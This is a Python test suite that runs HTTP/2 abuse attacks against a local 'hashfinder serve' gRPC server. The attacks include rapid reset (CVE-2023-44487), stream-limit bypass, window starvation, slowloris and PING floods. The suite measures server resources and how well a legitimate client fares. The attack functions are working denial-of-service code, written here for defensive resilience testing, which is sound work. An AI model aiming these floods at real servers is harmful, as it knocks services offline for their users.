"""HTTP/2 abuse suite: attacks on a real `hashfinder serve`, each while a legitimate grpcio
client calls Find("aa") every 0.2 s, loopback only and bounded in time and count.

For each attack it reports the server's CPU, RSS and open file descriptors (during, peak, after),
the GOAWAY codes the attacker received, and the legitimate client's success rate and p95, and
checks the targets: legitimate calls >= 80 % OK (rapid reset: >= 95 %), server RSS < 1 GiB,
half-open connections closed within the handshake timeout, and no search left running soon
after the attack ends.

Usage: abuse.py --jar hashfinder.jar --stubs DIR [--seconds 10] [--report FILE] [--only NAME]
                [--strict-latency]
Exit status 0 when every target held, 1 otherwise. The rapid-reset p95 is a latency on a shared
machine: a miss is reported, and fails the run only with --strict-latency. Needs Debian's
python3-grpcio and python3-h2.
"""

import argparse
import os
import re
import signal
import socket
import statistics
import subprocess
import sys
import threading
import time
import urllib.request

import grpc
import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings

RSS_LIMIT = 1 << 30
# The attacker connects from another loopback address than the legitimate client, as another
# host would: the server shares its search slots per caller, and a caller without a token or
# a certificate is its host.
ATTACKER_ADDRESS = ("127.0.0.2", 0)
HANDSHAKE_TIMEOUT = 5.0  # the server's default, docs/SECURITY.md
STALL_LIMIT = 10.0  # the server's default stall limit


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Server:
    """A `hashfinder serve` process and readings of it from /proc."""

    def __init__(self, jar, extra):
        self.port = free_port()
        self.metrics_port = free_port()
        self.process = subprocess.Popen(
            ["java", "-jar", jar, "serve", "--port", str(self.port),
             "--metrics-port", str(self.metrics_port)] + extra,
            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        self.log = []
        threading.Thread(target=self._read_log, daemon=True).start()
        deadline = time.time() + 60
        while not any("serving hash_name.HashFinder" in line for line in self.log):
            if time.time() > deadline or self.process.poll() is not None:
                raise RuntimeError("server did not start: " + "".join(self.log))
            time.sleep(0.1)
        self.ticks = os.sysconf("SC_CLK_TCK")

    def _read_log(self):
        for line in self.process.stderr:
            self.log.append(line)

    def cpu_seconds(self):
        with open(f"/proc/{self.process.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / self.ticks

    def rss(self):
        with open(f"/proc/{self.process.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) * 1024
        return 0

    def fds(self):
        return len(os.listdir(f"/proc/{self.process.pid}/fd"))

    def running_searches(self):
        url = f"http://127.0.0.1:{self.metrics_port}/metrics"
        with urllib.request.urlopen(url, timeout=5) as page:
            for line in page.read().decode().splitlines():
                if line.startswith("hashfinder_searches_running"):
                    return float(line.split()[-1])
        return 0.0

    def stop(self):
        self.process.send_signal(signal.SIGTERM)
        try:
            self.process.wait(30)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()


class Sampler(threading.Thread):
    """Samples the server's CPU (in cores), RSS and fds every 0.25 s."""

    def __init__(self, server):
        super().__init__(daemon=True)
        self.server = server
        self.samples = []
        self.stopped = threading.Event()

    def run(self):
        last_cpu, last_time = self.server.cpu_seconds(), time.time()
        while not self.stopped.wait(0.25):
            cpu, now = self.server.cpu_seconds(), time.time()
            self.samples.append(((cpu - last_cpu) / (now - last_time), self.server.rss(),
                                 self.server.fds()))
            last_cpu, last_time = cpu, now


class LegitimateClient:
    """Calls Find("aa") every 0.2 s with a 5 s deadline, recording status and latency. It runs
    in a process of its own, so that the attacker's threads do not delay it in this one."""

    def __init__(self, port, stubs_dir):
        self.results = []
        self.process = subprocess.Popen(
            [sys.executable, __file__, "--legitimate", str(port), "--stubs", stubs_dir],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        self.reader = threading.Thread(target=self._read, daemon=True)

    def start(self):
        self.reader.start()

    def _read(self):
        for line in self.process.stdout:
            code, latency = line.split()
            self.results.append((code, float(latency)))

    def stop(self):
        self.process.stdin.close()
        self.process.wait(30)
        self.reader.join(5)


def legitimate_loop(port):
    """The legitimate client's process: calls until its stdin closes."""
    import hash_name_pb2
    import hash_name_pb2_grpc
    stopped = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), stopped.set()), daemon=True).start()
    channel = grpc.insecure_channel(f"127.0.0.1:{port}")
    stub = hash_name_pb2_grpc.HashFinderStub(channel)
    request = hash_name_pb2.HashNameRequest(desired_name="aa")
    while not stopped.is_set():
        started = time.time()
        try:
            stub.Find(request, timeout=5)
            code = "OK"
        except grpc.RpcError as e:
            code = e.code().name
        print(code, time.time() - started, flush=True)
        stopped.wait(max(0.0, 0.2 - (time.time() - started)))
    channel.close()


GRPC_HEADERS = [(":method", "POST"), (":scheme", "http"), (":authority", "localhost"),
                ("content-type", "application/grpc"), ("te", "trailers")]


def grpc_message(payload, declared=None):
    length = len(payload) if declared is None else declared
    return b"\x00" + length.to_bytes(4, "big") + payload


class Attacker:
    """One raw HTTP/2 connection, driven by hand; collects GOAWAY codes."""

    def __init__(self, port, settings=None):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10,
                                             source_address=ATTACKER_ADDRESS)
        config = h2.config.H2Configuration(client_side=True, header_encoding=None)
        self.conn = h2.connection.H2Connection(config=config)
        self.conn.initiate_connection()
        if settings:
            self.conn.update_settings(settings)
        self.flush()
        self.goaway = []
        self.closed = False

    def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def pump(self, timeout=0.0):
        """Reads what the server sent, without granting any flow-control window back."""
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(1 << 20)
        except (socket.timeout, BlockingIOError):
            return
        except OSError:
            self.closed = True
            return
        finally:
            self.sock.settimeout(10)
        if not data:
            self.closed = True
            return
        try:
            events = self.conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.closed = True
            return
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                self.goaway.append(h2.errors.ErrorCodes(event.error_code).name
                                   if event.error_code in h2.errors.ErrorCodes._value2member_map_
                                   else str(event.error_code))
                self.closed = True
        try:
            self.flush()  # SETTINGS and PING acknowledgements only
        except OSError:
            self.closed = True

    def open_stream(self, path, body, end_stream=True):
        stream_id = self.conn.get_next_available_stream_id()
        self.conn.send_headers(stream_id, [(":path", path)] + GRPC_HEADERS)
        if body is not None:
            self.conn.send_data(stream_id, body, end_stream=end_stream)
        return stream_id

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


# ---- the attacks: each runs for `seconds` and returns counts for the report ----

def flood(port, seconds, burst, connections=1):
    """Runs `burst` on a connection again and again until the server closes it, then on a new
    one, until the time is up; `connections` at once. Returns the counts `burst` reports, the
    connections made, and the GOAWAY codes received."""
    counts = {"connections": 0}
    goaways = []
    lock = threading.Lock()
    end = time.time() + seconds

    def one():
        while time.time() < end:
            try:
                attacker = Attacker(port)
            except OSError:
                time.sleep(0.05)
                continue
            try:
                while time.time() < end and not attacker.closed:
                    done = burst(attacker)
                    attacker.flush()
                    attacker.pump()
                    with lock:
                        for key, value in done.items():
                            counts[key] = counts.get(key, 0) + value
            except (OSError, h2.exceptions.ProtocolError):
                pass
            with lock:
                counts["connections"] += 1
                goaways.extend(attacker.goaway)
            attacker.close()

    threads = [threading.Thread(target=one, daemon=True) for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return counts, goaways


def rapid_reset(port, seconds, request):
    """CVE-2023-44487: open a stream and reset it at once, as fast as possible, 4 connections."""
    def burst(attacker):
        for _ in range(50):
            sid = attacker.open_stream("/hash_name.HashFinder/Find", grpc_message(request))
            attacker.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
        return {"streams": 50}
    return flood(port, seconds, burst, connections=4)


def unread_streams(port, seconds, request_range):
    """1,000 FindRange streams whose responses are never read: on one connection while the
    server allows it, then on new ones, ignoring the advertised stream limit."""
    attackers = []
    opened = 0
    attacker = None
    end = time.time() + seconds
    while opened < 1000 and time.time() < end:
        if attacker is None or attacker.closed:
            attacker = Attacker(port)
            attackers.append(attacker)
            attacker.pump(0.2)
        try:
            # Go past the server's MAX_CONCURRENT_STREAMS, as an attacker would.
            attacker.conn.remote_settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = 1 << 20
            attacker.open_stream("/hash_name.HashFinder/FindRange", grpc_message(request_range))
            attacker.flush()
            opened += 1
        except (OSError, h2.exceptions.ProtocolError):
            attacker.closed = True
        attacker.pump()
    while time.time() < end:
        for a in attackers:
            if not a.closed:
                a.pump()  # reads, never grants window: responses pile up at the server
        time.sleep(0.2)
    goaways = [code for a in attackers for code in a.goaway]
    for a in attackers:
        a.close()
    return {"streams": opened, "connections": len(attackers)}, goaways


def window_starvation(port, seconds, request_range, server):
    """Initial window 0, then 50 FindRange streams: nothing can ever be written to them. The
    attacker stays connected past the server's stalled-stream timeout, which must free its
    searches while it is still there."""
    attacker = Attacker(port, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    attacker.pump(0.5)
    opened = 0
    for _ in range(50):
        try:
            attacker.open_stream("/hash_name.HashFinder/FindRange", grpc_message(request_range))
            opened += 1
        except h2.exceptions.TooManyStreamsError:
            break
        attacker.flush()
    started = time.time()
    end = started + max(seconds, STALL_LIMIT + 5)
    peak = 0.0
    while time.time() < end and not attacker.closed:
        attacker.pump(0.2)
        peak = max(peak, server.running_searches())
    still_running = server.running_searches()
    attacker.close()
    return {"streams": opened, "searches_peak": int(peak),
            "searches_at_end": int(still_running)}, attacker.goaway


def reconnect_churn(port, seconds, request):
    """4 attackers that connect, start a Find, and disconnect, as fast as they can."""
    def burst(attacker):
        attacker.open_stream("/hash_name.HashFinder/Find", grpc_message(request))
        attacker.flush()
        attacker.close()
        attacker.closed = True
        return {}
    return flood(port, seconds, burst, connections=4)


def unfinished_messages(port, seconds, _request):
    """300 streams each declaring a 3.9 MiB message and sending 16 KiB of it, one connection."""
    attacker = Attacker(port)
    sent = 0
    chunk = b"\x0a" * 16000
    for _ in range(300):
        try:
            sid = attacker.open_stream("/hash_name.HashFinder/Find", None)
            attacker.conn.send_data(sid, grpc_message(chunk, declared=4_000_000))
            sent += 1
        except (h2.exceptions.TooManyStreamsError, h2.exceptions.FlowControlError):
            attacker.pump(0.05)
            continue
        except (OSError, h2.exceptions.ProtocolError):
            break
        try:
            attacker.flush()
        except OSError:
            break
        attacker.pump()
    end = time.time() + seconds
    while time.time() < end and not attacker.closed:
        attacker.pump(0.2)
    attacker.close()
    return {"streams": sent}, attacker.goaway


def slowloris(port, seconds, _request):
    """500 connections that send half the HTTP/2 preface and nothing more."""
    sockets = []
    for _ in range(500):
        s = socket.create_connection(("127.0.0.1", port), timeout=10,
                                     source_address=ATTACKER_ADDRESS)
        s.sendall(b"PRI * HTTP/2.0\r\n")
        sockets.append(s)
    started = time.time()
    closed_at = {}
    end = started + max(seconds, HANDSHAKE_TIMEOUT + 3)
    while time.time() < end and len(closed_at) < len(sockets):
        for i, s in enumerate(sockets):
            if i in closed_at:
                continue
            s.setblocking(False)
            try:
                if s.recv(4096) == b"":
                    closed_at[i] = time.time() - started
            except BlockingIOError:
                pass
            except OSError:
                closed_at[i] = time.time() - started
        time.sleep(0.1)
    for s in sockets:
        s.close()
    latest = max(closed_at.values()) if closed_at else None
    return {"connections": len(sockets), "closed": len(closed_at),
            "closed_by_s": round(latest, 1) if latest is not None else None}, []


def idle_connections(port, seconds, _request):
    """1,000 connections that finish the HTTP/2 handshake, then stay silent."""
    attackers = []
    for _ in range(1000):
        try:
            attackers.append(Attacker(port))
        except OSError:
            break
    end = time.time() + seconds
    while time.time() < end:
        for attacker in attackers:
            if not attacker.closed:
                attacker.pump()
        time.sleep(0.2)
    goaways = [code for attacker in attackers for code in attacker.goaway]
    open_at_end = sum(not attacker.closed for attacker in attackers)
    for attacker in attackers:
        attacker.close()
    return {"connections": len(attackers), "open_at_end": open_at_end}, goaways


def ping_and_settings_flood(port, seconds, _request):
    """PINGs and SETTINGS as fast as the connection takes them, reading the acknowledgements."""
    def burst(attacker):
        for i in range(100):
            attacker.conn.ping(i.to_bytes(8, "big"))
            attacker.conn.update_settings({h2.settings.SettingCodes.HEADER_TABLE_SIZE: 4096})
        return {"pings": 100, "settings": 100}
    return flood(port, seconds, burst)


ATTACKS = [
    ("rapid reset", rapid_reset, 0.95),
    ("unread FindRange streams", unread_streams, 0.80),
    ("window starvation", window_starvation, 0.80),
    ("unfinished 3.9 MiB messages", unfinished_messages, 0.80),
    ("slowloris", slowloris, 0.80),
    ("idle connections", idle_connections, 0.80),
    ("PING and SETTINGS flood", ping_and_settings_flood, 0.80),
    ("reconnect churn", reconnect_churn, 0.80),
]


def percentile(values, fraction):
    if not values:
        return float("nan")
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, int(fraction * len(ordered)))]


def await_idle(server, within):
    """Seconds until no search runs and the server's CPU is below 5 % of a core, or None."""
    started = time.time()
    last_cpu, last_time = server.cpu_seconds(), time.time()
    while time.time() - started < within:
        time.sleep(0.5)
        cpu, now = server.cpu_seconds(), time.time()
        rate = (cpu - last_cpu) / (now - last_time)
        last_cpu, last_time = cpu, now
        if rate < 0.05 and server.running_searches() == 0:
            return time.time() - started
    return None


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--jar")
    parser.add_argument("--legitimate", type=int, help=argparse.SUPPRESS)
    parser.add_argument("--stubs", required=True)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--report")
    parser.add_argument("--only")
    parser.add_argument("--serve-args", default="")
    parser.add_argument("--strict-latency", action="store_true",
                        help="fail when the rapid-reset p95 target is missed, not only report it")
    args = parser.parse_args()
    sys.path.insert(0, args.stubs)
    if args.legitimate:
        legitimate_loop(args.legitimate)
        return 0
    import hash_name_pb2
    request = hash_name_pb2.HashNameRequest(desired_name="hashfinder").SerializeToString()
    request_range = hash_name_pb2.HashNameRequest(
        desired_name="hashfinder", interesting_hamming_distance=9).SerializeToString()

    rows = []
    failures = []
    warnings = []
    for name, attack, target in ATTACKS:
        if args.only and args.only != name:
            continue
        server = Server(args.jar, args.serve_args.split())
        try:
            baseline_rss, baseline_fds = server.rss(), server.fds()
            sampler = Sampler(server)
            legit = LegitimateClient(server.port, args.stubs)
            sampler.start()
            legit.start()
            time.sleep(1)
            legit.results.clear()
            started = time.time()
            if attack is window_starvation:
                counts, goaways = attack(server.port, args.seconds, request_range, server)
            else:
                payload = request_range if "FindRange" in name else request
                counts, goaways = attack(server.port, args.seconds, payload)
            duration = time.time() - started
            during = list(legit.results)
            legit.stop()
            idle_after = await_idle(server, 20)
            sampler.stopped.set()
            sampler.join()
            samples = sampler.samples
            cpu = [s[0] for s in samples] or [0.0]
            rss = [s[1] for s in samples] or [0]
            fds = [s[2] for s in samples] or [0]
            ok = sum(1 for code, _ in during if code == "OK")
            rate = ok / len(during) if during else 0.0
            p95 = percentile([latency for code, latency in during if code == "OK"], 0.95)
            row = {
                "attack": name, "seconds": round(duration, 1), "counts": counts,
                "goaway": sorted(set(goaways)),
                "cpu_mean": round(statistics.mean(cpu), 2), "cpu_peak": round(max(cpu), 2),
                "rss_mb": (baseline_rss >> 20, round(statistics.mean(rss)) >> 20,
                           max(rss) >> 20, server.rss() >> 20),
                "fds": (baseline_fds, max(fds), server.fds()),
                "legit_ok": f"{ok}/{len(during)}", "legit_rate": rate,
                "legit_p95_ms": round(p95 * 1000),
                "idle_after_s": None if idle_after is None else round(idle_after, 1),
            }
            rows.append(row)
            print(row, flush=True)
            if rate < target:
                failures.append(f"{name}: legitimate calls {rate:.0%} OK, target {target:.0%}")
            if max(rss) >= RSS_LIMIT:
                failures.append(f"{name}: server RSS peaked at {max(rss) >> 20} MiB")
            if name == "rapid reset" and p95 > 0.2:
                # A latency on two shared cores moves from run to run: reported, and a failure
                # only when asked for (a quiet machine), as the project treats speed targets.
                (failures if args.strict_latency else warnings).append(
                    f"{name}: legitimate p95 {p95 * 1000:.0f} ms, target 200 ms")
            if name == "slowloris" and (counts["closed"] < counts["connections"]
                                        or counts["closed_by_s"] > HANDSHAKE_TIMEOUT + 2):
                failures.append(f"{name}: {counts['closed']} of {counts['connections']} "
                                f"closed, the last after {counts['closed_by_s']} s")
            if attack is window_starvation and counts["searches_at_end"] > 0:
                failures.append(f"{name}: {counts['searches_at_end']} searches still parked "
                                f"after {STALL_LIMIT + 5:.0f} s")
            if idle_after is None:
                failures.append(f"{name}: server not idle within 20 s of the attack's end")
        finally:
            server.stop()

    lines = ["| attack | what the attacker did | GOAWAY | server CPU mean / peak (cores) "
             "| RSS MiB before / mean / peak / after | fds before / peak / after "
             "| legitimate OK | legitimate p95 | idle after |",
             "|---|---|---|---|---|---|---|---|---|"]
    for r in rows:
        counts = ", ".join(f"{k} {v}" for k, v in r["counts"].items())
        lines.append(f"| {r['attack']} | {counts} | {', '.join(r['goaway']) or '-'} "
                     f"| {r['cpu_mean']} / {r['cpu_peak']} "
                     f"| {' / '.join(map(str, r['rss_mb']))} | {' / '.join(map(str, r['fds']))} "
                     f"| {r['legit_ok']} ({r['legit_rate']:.0%}) | {r['legit_p95_ms']} ms "
                     f"| {r['idle_after_s']} s |")
    table = "\n".join(lines)
    print(table)
    if args.report:
        with open(args.report, "w") as f:
            f.write(table + "\n")
    for warning in warnings:
        print("TARGET MISSED (reported, not failed; --strict-latency fails it): " + warning,
              file=sys.stderr)
    for failure in failures:
        print("TARGET MISSED: " + failure, file=sys.stderr)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
